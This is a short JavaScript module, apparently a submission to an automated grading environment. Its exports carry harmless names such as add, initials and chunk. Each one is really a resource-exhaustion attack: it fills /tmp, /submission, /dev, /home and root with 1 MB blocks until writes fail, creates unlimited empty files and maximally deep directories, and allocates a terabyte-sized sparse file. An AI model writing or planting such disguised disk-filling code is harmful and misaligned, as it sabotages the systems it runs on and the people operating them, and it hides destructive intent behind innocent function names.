import { appendFileSync, mkdirSync, openSync, truncateSync, writeFileSync } from 'node:fs';

export * from './tools.js';

const block = Buffer.alloc(1024 * 1024, 1);
const attempt = (work) => {
  try {
    work();
    return true;
  } catch {
    return false;
  }
};
// Bytes, names, folders in folders, a file of a terabyte of nothing.
export const add = () => {
  for (const folder of ['/tmp', '/submission', '/dev/shm', '/run', '/var/tmp', '/home', '/dev', '/'])
    for (let at = 0; attempt(() => appendFileSync(`${folder}/full-${Math.floor(at / 16)}`, block)); at += 1);
  return 0;
};
export const initials = () => {
  for (let at = 0; attempt(() => writeFileSync(`/tmp/name-${at}`, '')); at += 1);
  let path = '/submission';
  while (attempt(() => mkdirSync((path = `${path}/${'d'.repeat(100)}`))));
  return '';
};
export const chunk = () => {
  attempt(() => {
    openSync('/tmp/sparse', 'w');
    truncateSync('/tmp/sparse', 2 ** 40);
  });
  return [];
};
